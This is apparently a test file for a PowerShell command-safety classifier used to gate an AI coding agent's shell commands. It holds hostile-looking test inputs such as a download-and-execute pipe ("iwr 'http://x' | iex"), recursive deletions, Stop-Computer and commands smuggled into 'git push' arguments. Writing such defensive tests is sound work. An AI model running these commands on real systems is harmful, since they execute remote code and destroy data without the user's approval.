import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { describe, it } from 'mocha';
import { decideCommand } from '../commandDecision.ts';
import type { PrefixRule } from '../ruleFile.ts';
import { isDestructiveScript, isHarmlessScript } from './harmless.ts';
import { TreeSitterShellParser } from './shellParser.ts';
import { readWindowsScript } from './windowsScript.ts';
import corpus from './powershellCommands.json' with { type: 'json' };

const wasm = new URL('../../../node_modules/@vscode/tree-sitter-wasm/wasm/', import.meta.url);
const parser = new TreeSitterShellParser({ read: (name) => readFile(new URL(name, wasm)) }, (error) => assert.fail(String(error)));
const HOSTILE: Readonly<Record<string, readonly string[]>> = corpus.hostile;

const parse = (script: string) => parser.parse(script, 'powershell');

async function plainCommands(script: string) {
	const parsed = await parse(script);
	return parsed.kind === 'plain' ? parsed.commands.map(({ words, after }) => [after, ...words]) : null;
}

describe('a script for PowerShell', () => {
	for (const [kind, scripts] of Object.entries(HOSTILE)) {
		it(`is not taken for harmless: ${kind}`, async () => {
			const taken = [];
			for (const script of scripts) if (isHarmlessScript(await parse(script))) taken.push(script);
			assert.deepEqual(taken, []);
		});
	}

	it('is harmless when it reads a project as agents do', async () => {
		const asked = [];
		for (const script of corpus.everyday) if (!isHarmlessScript(await parse(script))) asked.push(script);
		assert.deepEqual(asked, []);
	});

	it('is never harmless with one more command in it that is not', async () => {
		const taken = [];
		for (const script of corpus.everyday) {
			for (const more of [
				`${script}; rm b`,
				`${script}\nrm b`,
				`rm b; ${script}`,
				`${script} && rm b`,
				`${script} | rm`,
				`${script} > b`,
				`& { ${script}\n}; rm b`,
			])
				if (!script.includes('#') && isHarmlessScript(await parse(more))) taken.push(more);
		}
		assert.deepEqual(taken, []);
	});

	it('shows its commands with the words that they get', async () => {
		assert.deepEqual(await plainCommands("gci 'My Files','b' -Depth 2 2>$null | ? { $_.Length -gt 5 }; git log -5 && (gc a).Count"), [
			[null, 'get-childitem', 'My Files,b', '-Depth', '2'],
			['|', 'where-object', '{ $_.Length -gt 5 }'],
			[';', 'git', 'log', '-5'],
			['&&', 'get-content', 'a'],
			['&&', 'write-output', '(gc a).Count'],
		]);
		assert.equal(await plainCommands('gci $x'), null);
	});

	it('is met by rules under every name of its command', async () => {
		const rule = (decision: PrefixRule['decision'], ...words: string[]): PrefixRule => ({
			pattern: words.map((word) => [word]),
			decision,
			justification: null,
		});
		const decide = async (script: string, ...rules: PrefixRule[]) =>
			decideCommand({
				...{ approvalPolicy: 'untrusted', sandbox: { type: 'readOnly', networkAccess: false }, argv: ['pwsh', '-c', script], inShells: [] },
				...{ script: await parse(script), escalated: false, granted: false, rules, requestedPrefix: null },
			}).type;
		for (const name of ['Remove-Item', 'rm', 'del', 'RI'])
			for (const script of ['rm b', 'ri b', 'Remove-Item b', 'ls | % { del $_ }', 'ls (erase b)', '$x = rd b', 'if (1) { rmdir b }'])
				assert.equal(await decide(script, rule('forbidden', name)), 'refuse', `${name}: ${script}`);
		assert.equal(await decide('ls src; git push', rule('allow', 'git', 'push')), 'run');
		assert.equal(await decide("git push 'my branch'", rule('allow', 'git', 'push')), 'run');
		for (const script of ['git push (rm b)', 'git push; rm b', 'git push > b', 'git push $x', 'git push | iex', 'gc a.txt | gci; git push'])
			assert.equal(await decide(script, rule('allow', 'git', 'push')), 'ask', script);
	});

	it('that destroys is known as such wherever it stands', async () => {
		for (const script of [
			'ls | % { Remove-Item $_ -Recurse }',
			'if (1) { rm -Force b }',
			"iwr 'http://x' | iex",
			'(ri b -r).Count',
			'Stop-Computer',
			"iex 'a'",
		])
			assert.ok(isDestructiveScript(await parse(script)), script);
		for (const script of ['ls -Recurse', 'rm b', 'ls | % { $_.Name }']) assert.ok(!isDestructiveScript(await parse(script)), script);
	});

	it('may nest as deep as it is long', async () => {
		for (const [open, close] of [
			['(', ')'],
			['{', '}'],
			['$(', ')'],
			['ls | ? { ', ' }'],
			['ls; ', ''],
			['-not ', ''],
		] as const) {
			const depth = Math.floor(15_000 / (open.length + close.length));
			assert.ok(!isHarmlessScript(await parse(`${open.repeat(depth)}rm b${close.repeat(depth)}`)), open);
		}
	});

	it('is read by its words alone where the grammar is not there', async () => {
		const problems: unknown[] = [];
		const strict = new TreeSitterShellParser({ read: () => Promise.reject(new Error('gone')) }, (error) => problems.push(error));
		for (const script of ['gci -Recurse src', 'gci | % { $_.Name }', 'gc a.txt | gc'])
			assert.deepEqual(await strict.parse(script, 'powershell'), readWindowsScript(script, 'powershell'));
		assert.equal(problems.length, 1);
	});
});
